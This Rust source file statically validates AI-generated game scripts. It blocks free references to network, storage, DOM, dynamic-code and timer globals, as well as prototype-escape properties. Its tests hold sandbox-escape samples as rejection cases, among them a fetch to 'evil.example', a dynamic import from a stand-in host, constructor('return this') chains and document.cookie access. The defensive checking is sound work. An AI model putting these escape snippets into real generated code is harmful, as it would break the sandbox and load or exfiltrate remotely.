//! Static checks of a game's `logic.js` with a real JavaScript parser (oxc).
//!
//! The browser sandbox and CSP are the wall; this is the gate in front of it, and it is what lets the
//! pipeline reject (or ask the model to repair) a package before anyone plays it. It rejects syntax
//! errors, module syntax, references to globals outside the runtime API (network, storage, DOM, escape
//! hatches, timers), `constructor`/`__proto__` tricks and `Math.random`. Globals are found by scope
//! analysis, so a game's own variable named `top` or `parent` is fine; only free references count.
//! Every finding says what and where (line:column, 1-based).

use oxc::allocator::Allocator;
use oxc::ast::ast::{
    ComputedMemberExpression, Expression, IdentifierReference, ImportExpression, ModuleDeclaration,
    StaticMemberExpression,
};
use oxc::ast_visit::{Visit, walk};
use oxc::parser::Parser;
use oxc::semantic::{Scoping, SemanticBuilder};
use oxc::span::{GetSpan, SourceType, Span};
use serde::Serialize;

/// Largest logic.js accepted (generated games are small; this bounds parser work too).
pub const MAX_LOGIC_BYTES: usize = 256 * 1024;

/// Free identifiers a game may not touch, grouped by why.
const BLOCKED: &[(&str, &[&str])] = &[
    (
        "network access",
        &[
            "fetch",
            "XMLHttpRequest",
            "WebSocket",
            "EventSource",
            "importScripts",
            "navigator",
            "RTCPeerConnection",
            "Request",
            "Image",
            "Audio",
            "Worker",
            "SharedWorker",
            "BroadcastChannel",
        ],
    ),
    (
        "storage",
        &["localStorage", "sessionStorage", "indexedDB", "caches"],
    ),
    (
        "page and window access",
        &[
            "document",
            "window",
            "globalThis",
            "self",
            "parent",
            "top",
            "opener",
            "frames",
            "location",
            "history",
            "postMessage",
            "alert",
            "confirm",
            "prompt",
            "open",
            "close",
        ],
    ),
    (
        "dynamic code",
        &[
            "eval",
            "Function",
            "require",
            "process",
            "module",
            "exports",
            "Deno",
            "Bun",
            "WebAssembly",
        ],
    ),
    (
        "timers (the runtime drives the game loop)",
        &[
            "setTimeout",
            "setInterval",
            "setImmediate",
            "requestAnimationFrame",
            "queueMicrotask",
        ],
    ),
];

const BLOCKED_PROPERTIES: &[&str] = &[
    "constructor",
    "__proto__",
    "__defineGetter__",
    "__defineSetter__",
    "__lookupGetter__",
];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct Finding {
    pub line: u32,
    pub column: u32,
    pub message: String,
}

impl std::fmt::Display for Finding {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}:{}: {}", self.line, self.column, self.message)
    }
}

struct Lines {
    starts: Vec<u32>,
}

impl Lines {
    fn new(src: &str) -> Self {
        let mut starts = vec![0];
        for (i, b) in src.bytes().enumerate() {
            if b == b'\n' {
                starts.push(u32::try_from(i + 1).unwrap_or(u32::MAX));
            }
        }
        Self { starts }
    }

    fn at(&self, src: &str, offset: u32) -> (u32, u32) {
        let line = self.starts.partition_point(|s| *s <= offset).max(1);
        let start = self.starts[line - 1] as usize;
        let end = (offset as usize).min(src.len());
        let column = src.get(start..end).map_or(0, |s| s.chars().count()) + 1;
        (
            u32::try_from(line).unwrap_or(u32::MAX),
            u32::try_from(column).unwrap_or(u32::MAX),
        )
    }
}

struct Walker<'s> {
    found: Vec<(Span, String)>,
    scoping: &'s Scoping,
}

impl<'a> Visit<'a> for Walker<'_> {
    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
        let name = it.name.as_str();
        // Only free (global) references: a game's own `top` or `parent` variable resolves to a symbol.
        let free = it
            .reference_id
            .get()
            .is_none_or(|id| self.scoping.get_reference(id).symbol_id().is_none());
        if free && let Some((why, _)) = BLOCKED.iter().find(|(_, names)| names.contains(&name)) {
            self.found.push((
                it.span,
                format!("`{name}` is not allowed ({why}); games may only use the ctx runtime API"),
            ));
        }
    }

    fn visit_module_declaration(&mut self, it: &ModuleDeclaration<'a>) {
        self.found.push((
            it.span(),
            "import/export declarations are not allowed: logic.js is one script".into(),
        ));
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        self.found.push((
            it.span,
            "dynamic import() is not allowed (network access)".into(),
        ));
        walk::walk_import_expression(self, it);
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        let prop = it.property.name.as_str();
        if BLOCKED_PROPERTIES.contains(&prop) {
            self.found.push((
                it.property.span,
                format!("`.{prop}` is not allowed (prototype escape)"),
            ));
        }
        if prop == "random"
            && let Expression::Identifier(obj) = &it.object
            && obj.name == "Math"
        {
            self.found.push((
                it.span,
                "Math.random is not allowed; use ctx.random() (seeded)".into(),
            ));
        }
        walk::walk_static_member_expression(self, it);
    }

    fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
        if let Expression::StringLiteral(s) = &it.expression
            && BLOCKED_PROPERTIES.contains(&s.value.as_str())
        {
            self.found.push((
                s.span,
                format!("`[\"{}\"]` is not allowed (prototype escape)", s.value),
            ));
        }
        walk::walk_computed_member_expression(self, it);
    }
}

/// Checks `logic.js`; `Ok(())` or every problem found, in source order.
pub fn check_logic(src: &str) -> Result<(), Vec<Finding>> {
    if src.len() > MAX_LOGIC_BYTES {
        return Err(vec![Finding {
            line: 1,
            column: 1,
            message: format!(
                "logic.js is {} bytes; the limit is {MAX_LOGIC_BYTES}",
                src.len()
            ),
        }]);
    }
    let lines = Lines::new(src);
    let to_finding = |span: Span, message: String| {
        let (line, column) = lines.at(src, span.start);
        Finding {
            line,
            column,
            message,
        }
    };
    let allocator = Allocator::default();
    // A classic script: `import`/`export` declarations are syntax errors here, as in the sandbox.
    let parsed = Parser::new(&allocator, src, SourceType::cjs()).parse();
    if parsed.panicked || !parsed.diagnostics.is_empty() {
        let mut out: Vec<Finding> = parsed
            .diagnostics
            .iter()
            .map(|e| {
                let span = e
                    .labels
                    .as_ref()
                    .first()
                    .map(|l| Span::new(l.offset(), 0))
                    .unwrap_or_default();
                to_finding(span, format!("syntax error: {}", e.message))
            })
            .collect();
        if out.is_empty() {
            out.push(to_finding(Span::default(), "syntax error".into()));
        }
        return Err(out);
    }
    let program = parsed.program;
    let semantic = SemanticBuilder::new().build(&program).semantic;
    let mut found: Vec<(Span, String)> = Vec::new();
    let mut walker = Walker {
        found: Vec::new(),
        scoping: semantic.scoping(),
    };
    walker.visit_program(&program);
    found.extend(walker.found);
    if !src.contains("aimini.game") {
        found.push((
            Span::default(),
            "logic.js never calls aimini.game({...})".into(),
        ));
    }
    if found.is_empty() {
        return Ok(());
    }
    found.sort_by_key(|(s, _)| s.start);
    Err(found.into_iter().map(|(s, m)| to_finding(s, m)).collect())
}

/// Globals shadowed inside a game's scope by the `logic.js` wrapper, in the browser player
/// (`api/src/routes/play.rs`) and the headless runner (`worker/src/runner/session.rs`) alike, so
/// the two cannot drift apart. Not `eval`/`arguments`: a game in strict mode may not bind them,
/// and CSP already refuses eval.
pub const SHADOWED_GLOBALS: &[&str] = &[
    "window",
    "self",
    "globalThis",
    "document",
    "top",
    "parent",
    "opener",
    "frames",
    "location",
    "navigator",
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "WebTransport",
    "EventSource",
    "Worker",
    "SharedWorker",
    "Image",
    "Audio",
    "RTCPeerConnection",
    "open",
    "close",
    "alert",
    "confirm",
    "prompt",
    "print",
    "postMessage",
    "importScripts",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "caches",
    "cookieStore",
    "setTimeout",
    "setInterval",
    "requestAnimationFrame",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn messages(src: &str) -> Vec<String> {
        check_logic(src)
            .expect_err("must be rejected")
            .iter()
            .map(ToString::to_string)
            .collect()
    }

    #[test]
    fn a_clean_game_passes_and_local_names_are_not_globals() {
        let src = "let top = 0; const parent = {};\nfunction fetch(x) { return x; }\n\
                   aimini.game({ setup(ctx) { top = ctx.random(); fetch(parent); }, update() {}, draw(ctx) { ctx.clear('#000'); } });";
        assert_eq!(check_logic(src), Ok(()));
    }

    #[test]
    fn blocked_globals_are_reported_with_their_location() {
        let src = "aimini.game({\n  setup(ctx) {\n    fetch('https://evil.example');\n    localStorage.x = 1;\n  }\n});\nwindow.top.location = 'x';";
        let m = messages(src);
        assert!(
            m[0].starts_with("3:5: `fetch` is not allowed (network access)"),
            "{m:?}"
        );
        assert!(
            m[1].starts_with("4:5: `localStorage` is not allowed (storage)"),
            "{m:?}"
        );
        assert!(m[2].starts_with("7:1: `window`"), "{m:?}");
    }

    #[test]
    fn escape_hatches_are_caught() {
        for (src, needle) in [
            ("aimini.game({}); eval('1')", "`eval`"),
            (
                "aimini.game({}); new Function('return this')()",
                "`Function`",
            ),
            (
                "aimini.game({}); (()=>{}).constructor('return this')()",
                "`.constructor`",
            ),
            (
                "aimini.game({}); ({})['constructor']['constructor']('x')",
                "[\"constructor\"]",
            ),
            (
                "aimini.game({}); import('https://x.example/m.js')",
                "dynamic import()",
            ),
            (
                "aimini.game({}); setTimeout('alert(1)', 10)",
                "`setTimeout`",
            ),
            ("aimini.game({}); const r = Math.random();", "Math.random"),
            ("aimini.game({}); globalThis.x = 1", "`globalThis`"),
            ("aimini.game({}); document.cookie", "`document`"),
            ("aimini.game({}); new XMLHttpRequest()", "`XMLHttpRequest`"),
            ("aimini.game({}); new WebSocket('ws://x')", "`WebSocket`"),
            ("aimini.game({}); self.postMessage(1)", "`self`"),
        ] {
            let m = messages(src).join(" | ");
            assert!(m.contains(needle), "{src}: {m}");
        }
    }

    #[test]
    fn syntax_errors_and_module_syntax_are_rejected_with_a_position() {
        let m = messages("aimini.game({\n  setup(ctx) { let x = ; }\n});");
        assert!(
            m[0].starts_with("2:") && m[0].contains("syntax error"),
            "{m:?}"
        );
        let m = messages("import x from 'y';\naimini.game({});");
        assert!(
            m[0].starts_with("1:1: import/export declarations are not allowed"),
            "{m:?}"
        );
        let m = messages("const x = 1;");
        assert!(m[0].contains("never calls aimini.game"), "{m:?}");
    }

    #[test]
    fn every_shipped_template_passes() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../prompts/templates");
        let mut n = 0;
        for entry in std::fs::read_dir(dir).expect("templates") {
            let path = entry.expect("entry").path().join("logic.js");
            if let Ok(src) = std::fs::read_to_string(&path) {
                n += 1;
                if let Err(f) = check_logic(&src) {
                    panic!("{}: {:?}", path.display(), f);
                }
            }
        }
        assert!(n >= 8);
    }
}
